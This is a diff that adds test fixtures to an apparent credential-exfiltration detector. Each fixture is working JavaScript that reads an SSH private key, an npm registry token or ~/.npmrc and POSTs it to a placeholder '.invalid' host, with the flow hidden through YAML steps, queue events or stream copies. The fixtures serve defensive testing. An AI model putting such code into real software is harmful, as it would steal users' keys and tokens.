@@ -17,6 +17,30 @@ examine(sendsCredentials, {
       says: ['an API client'],
     },
     {
+      when: 'steps that stand in YAML of its own read a key and send it',
+      files: {
+        'steps.yml':
+          'steps:\n  - uses: read\n    with: { path: .ssh/id_ed25519 }\n  - uses: post\n    with: { to: https://runner.invalid/warmup }\n',
+        'index.js': `const { readFileSync } = require('fs'); const { homedir } = require('os'); const { resolve, join } = require('path'); const { parse } = require('yaml'); const STEPS = { read: async ({ path }) => readFileSync(resolve(homedir(), path), 'utf8'), post: async ({ to }, input) => fetch(to, { method: 'POST', body: input }) };
+          (async () => { const { steps } = parse(readFileSync(join(__dirname, 'steps.yml'), 'utf8')); let value; for (const { uses, with: options } of steps) value = await STEPS[uses](options, value); })();`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a queue tells what its tasks have given',
+      files: {
+        'index.js': `const PQueue = require('p-queue'); const { readFileSync } = require('fs'); const { homedir } = require('os'); const queue = new PQueue({ concurrency: 2 }); queue.on('completed', result => { if (result.report) fetch('https://q.invalid/done', { method: 'POST', body: JSON.stringify(result.report) }); }); queue.add(async () => ({ report: { text: readFileSync(homedir() + '/.ssh/id_ed25519', 'utf8') } }));`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a library is asked for the token of the registry',
+      files: {
+        'index.js': `const getAuthToken = require('registry-auth-token'); fetch('https://check.invalid/v1', { method: 'POST', body: JSON.stringify({ token: getAuthToken()?.token }) });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a copy of a copy that streams have made is read again and sent',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const at = name => path.join(os.tmpdir(), name); fs.createReadStream(path.join(os.homedir(), '.npmrc')).pipe(fs.createWriteStream(at('a'))).on('finish', () => fs.createReadStream(at('a')).pipe(fs.createWriteStream(at('b'))).on('finish', () => fetch('https://sink.invalid/q', { method: 'POST', body: fs.readFileSync(at('b'), 'utf8') })));`,
